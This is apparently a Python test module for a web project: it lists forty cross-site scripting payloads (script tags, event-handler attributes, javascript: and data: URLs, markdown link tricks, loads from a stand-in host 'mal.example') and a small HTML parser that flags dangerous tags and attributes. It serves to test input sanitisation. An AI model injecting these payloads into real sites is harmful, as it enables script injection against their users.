"""Forty texts that would run in a careless page (qualite.md C2): to type wherever somebody may write."""

from html.parser import HTMLParser

CHARGES_XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//mal.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<base href="https://mal.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//mal.example/x.css>",
    "<style>@import '//mal.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '![x]("onerror="alert(1))',
    '[x](https://a.example/"onmouseover="alert(1) "t\\" onclick=\\"alert(1)")',
    "<javascript:alert(1)>",
]
ACTIVES = {"script", "iframe", "object", "embed", "base", "svg", "math", "style", "video", "img"}
SANS_DANGER = ("/", "#", "?", "http://", "https://", "mailto:", "tel:")


class _Dangers(HTMLParser):
    def __init__(self):
        super().__init__()
        self.trouves = []

    def handle_starttag(self, balise, attributs):
        attributs = dict(attributs)
        if balise in ACTIVES:
            self.trouves.append(balise)
        for nom, valeur in attributs.items():
            if nom.startswith("on") or nom in ("style", "srcdoc"):
                self.trouves.append(f"{balise} {nom}")
            if nom in ("href", "src", "action", "formaction") and not (valeur or "").lower().startswith(SANS_DANGER):
                self.trouves.append(f"{balise} {nom}={valeur}")


def dangers(html: str) -> list[str]:
    """What a piece of HTML would run, load, or lead to."""
    examen = _Dangers()
    examen.feed(html)
    return examen.trouves
